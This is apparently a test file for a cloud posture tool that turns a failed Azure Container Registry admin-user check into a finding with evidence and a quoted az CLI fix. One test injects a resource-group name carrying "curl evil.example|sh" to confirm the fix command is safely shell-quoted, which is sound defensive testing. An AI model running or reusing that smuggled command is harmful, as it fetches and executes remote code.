import assert from 'node:assert/strict';
import { defaultBusinessRules } from '../../../src/findings/facts.ts';
import { findingOfPosture, type PostureFindingInput } from '../../../src/findings/from-posture.ts';
import type { Check, CheckResult } from '../../../src/posture/types.ts';

const registry = '/subscriptions/s-1/resourceGroups/rg harbour/providers/Microsoft.ContainerRegistry/registries/prod';
const at = '2026-11-20T12:00:00Z';

const check: Check = {
  id: 'acr-admin-user-disabled',
  title: 'Admin user is disabled',
  severity: 'high',
  target: 'Microsoft.ContainerRegistry/registries',
  why: 'One password for everybody.',
  fix: 'az acr update -n <registry> -g <rg> --admin-enabled false',
  references: {},
  judge: () => ({ pass: true, reason: 'never asked here', evidence: [] }),
};

const failed: CheckResult = {
  check: check.id,
  resource: registry,
  status: 'fail',
  reason: 'The admin user is enabled',
  evidence: [{ path: 'properties.adminUserEnabled', value: true }],
};

const finding = (result: Partial<CheckResult> = {}, more: Partial<PostureFindingInput> = {}) =>
  findingOfPosture({
    result: { ...failed, ...result },
    check,
    asset: { id: registry.toLowerCase(), kind: 'registry', name: 'prod', path: ['Harbour', 'prod'] },
    connectionId: 'c-1',
    application: 'orders',
    tags: [],
    business: defaultBusinessRules,
    at,
    ...more,
  });

describe('the finding of a posture check', () => {
  it('is none when the check passed', () => {
    assert.equal(finding({ status: 'pass' }), undefined);
  });

  it('says what is wrong, and shows the property with its value and the time it was read', () => {
    const found = finding();
    assert.ok(found);
    assert.deepEqual(
      [found.kind, found.sourceTool, found.check, found.title, found.summary, found.result],
      [
        'configuration',
        'azure',
        'acr-admin-user-disabled',
        'Admin user is disabled',
        'One password for everybody.',
        'open',
      ],
    );
    assert.deepEqual(found.evidence, [
      { label: 'Result', value: 'The admin user is enabled', at },
      { label: 'Property', field: 'properties.adminUserEnabled', value: 'true', ref: registry, at },
    ]);
    assert.equal(found.explanation.original.level, 'high');
  });

  for (const status of ['denied', 'unreadable', 'excepted'] as const) {
    it(`${status} is no open finding and no pass, and says why`, () => {
      const found = finding({
        status,
        reason: 'Not allowed: Microsoft.ContainerRegistry/registries/read',
        evidence: [],
      });
      assert.equal(found?.result, status);
      assert.equal(
        found.summary,
        'Not allowed: Microsoft.ContainerRegistry/registries/read. One password for everybody.',
      );
    });
  }

  it('shows a missing property as not set, and structure as JSON', () => {
    const shown = finding({
      evidence: [
        { path: 'properties.a', value: null },
        { path: 'properties.b', value: { x: [1] } },
        { path: 'properties.c', value: 'Allow' },
      ],
    })?.evidence.slice(1);
    assert.deepEqual(
      shown?.map(({ value }) => value),
      ['not set', '{"x":[1]}', 'Allow'],
    );
  });

  it('puts real names into the command, quoted where a shell would split or run them', () => {
    assert.deepEqual(finding()?.remediation, [
      { kind: 'azureCli', text: "az acr update -n prod -g 'rg harbour' --admin-enabled false" },
    ]);
    const hostile = registry.replace('rg harbour', "rg';curl evil.example|sh;'");
    assert.equal(
      finding({ resource: hostile })?.remediation[0]?.text,
      "az acr update -n prod -g 'rg'\\'';curl evil.example|sh;'\\''' --admin-enabled false",
    );
    const group = registry.replace('rg harbour', () => '$&');
    assert.equal(
      finding({ resource: group })?.remediation[0]?.text,
      "az acr update -n prod -g '$&' --admin-enabled false",
    );
  });

  it('says the subscription in a command for a subscription', () => {
    const text = finding({ resource: '/subscriptions/s-1' }, { check: { ...check, fix: 'az security pricing create' } })
      ?.remediation[0]?.text;
    assert.equal(text, 'az security pricing create --subscription s-1');
  });

  it('keeps its id from scan to scan, whatever the result', () => {
    const ids = [finding(), finding({ status: 'denied', reason: 'x' })].map((found) => found?.id);
    assert.equal(ids[0], `acr-admin-user-disabled|${registry.toLowerCase()}`);
    assert.equal(ids[1], ids[0]);
  });

  it('production makes it weigh more, a sandbox less', () => {
    const pressure = (env: string) =>
      finding({}, { tags: [{ where: 'resource', tags: { env } }] })?.explanation.pressure ?? Number.NaN;
    assert.ok(pressure('prod') > 0);
    assert.ok(pressure('sandbox') < 0);
  });
});
